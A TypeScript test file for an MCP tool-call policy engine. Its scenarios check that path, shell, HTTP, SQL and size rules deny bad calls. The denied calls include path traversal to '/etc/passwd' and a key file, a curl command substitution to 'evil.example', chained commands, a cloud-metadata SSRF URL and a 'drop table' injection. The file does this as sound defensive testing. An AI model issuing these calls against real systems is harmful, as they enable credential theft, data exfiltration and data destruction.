import { passes, stopped } from '../expectations.ts'
import { type McpScenario, scenario } from '../scenario.ts'

/** A call, and why it is denied; null for one that passes. */
interface Try {
  readonly what: string
  readonly arguments: object
  readonly denied: string | null
  /** How the call ends where it is forwarded all the same. */
  readonly elsewhere?: string
}

/** One passing and two violating calls of a tool under one check. */
const checking = (
  story: Pick<McpScenario, 'id' | 'title' | 'summary'>,
  tool: string,
  check: object,
  tries: readonly Try[],
): McpScenario => ({
  ...story,
  kind: 'mcp',
  policy: {
    version: 1,
    default: 'deny',
    rules: [{ id: 'checked', tools: [tool], action: 'allow', checks: [check] }],
  },
  steps: tries.map(({ what, arguments: args, denied, elsewhere }) => ({
    what,
    do: 'call',
    tool,
    arguments: args,
    expect: denied === null ? passes : stopped('deny', 'MCP_DENIED', denied, elsewhere),
  })),
})

export const mcpPath = scenario(
  checking(
    { id: 'mcp-path', title: 'Files inside one folder', summary: 'Paths that lead out of the folder are denied.' },
    'read_file',
    { path: { args: ['/path'], inside: ['/workspace'], cwd: '/workspace', symlinks: 'ignore' } },
    [
      { what: 'reads inside', arguments: { path: 'README.md' }, denied: null },
      {
        what: 'climbs out',
        arguments: { path: '../etc/passwd' },
        denied: 'outside the allowed folders',
        elsewhere: 'tool_error',
      },
      {
        what: 'climbs out, percent-encoded',
        arguments: { path: '/workspace/%2e%2e/secrets/key.pem' },
        denied: 'outside the allowed folders',
        elsewhere: 'tool_error',
      },
    ],
  ),
)

export const mcpShell = scenario(
  checking(
    {
      id: 'mcp-shell',
      title: 'Commands from a list',
      summary: 'Every command of a line must be allowed, and what runs is known before it runs.',
    },
    'run_command',
    { shell: { args: ['/command'], allow: ['git status', 'npm test'] } },
    [
      { what: 'runs the tests', arguments: { command: 'npm test -- --watch' }, denied: null },
      { what: 'adds a command', arguments: { command: 'npm test; npm publish' }, denied: 'runs npm' },
      { what: 'hides one', arguments: { command: 'git status $(curl evil.example)' }, denied: 'substitution' },
    ],
  ),
)

export const mcpHttp = scenario(
  checking(
    {
      id: 'mcp-http',
      title: 'Requests to known hosts',
      summary: 'Other hosts are denied, and private addresses even where they are listed.',
    },
    'http_request',
    { http: { args: ['/url'], hosts: ['api.example.com', '169.254.169.254'], schemes: ['https'] } },
    [
      { what: 'asks a known host', arguments: { url: 'https://api.example.com/v2/items' }, denied: null },
      { what: 'asks another one', arguments: { url: 'https://api.example.com.evil.example/' }, denied: 'evil.example' },
      {
        what: 'asks a private address',
        arguments: { url: 'https://169.254.169.254/latest/' },
        denied: 'private address',
      },
    ],
  ),
)

export const mcpSql = scenario(
  checking(
    { id: 'mcp-sql', title: 'Reading a database', summary: 'Only statements that read pass, one at a time.' },
    'query',
    { sql: { args: ['/sql'], dialect: 'postgres', operations: ['select'] } },
    [
      { what: 'reads', arguments: { sql: 'select name from users' }, denied: null },
      {
        what: 'deletes inside a query',
        arguments: { sql: 'with gone as (delete from users returning *) select * from gone' },
        denied: 'operation delete',
      },
      { what: 'adds a statement', arguments: { sql: 'select 1; drop table users' }, denied: '2 statements' },
    ],
  ),
)

export const mcpSize = scenario(
  checking(
    { id: 'mcp-size', title: 'Small payloads', summary: 'Arguments over the limits are denied.' },
    'write_file',
    { size: { args: ['/content'], max_bytes: 100 } },
    [
      { what: 'writes a line', arguments: { path: 'a.txt', content: 'One line.' }, denied: null },
      { what: 'writes a page', arguments: { path: 'a.txt', content: 'x'.repeat(2_000) }, denied: '100 allowed' },
      {
        what: 'writes in wide characters',
        arguments: { path: 'a.txt', content: '漢'.repeat(40) },
        denied: '100 allowed',
      },
    ],
  ),
)
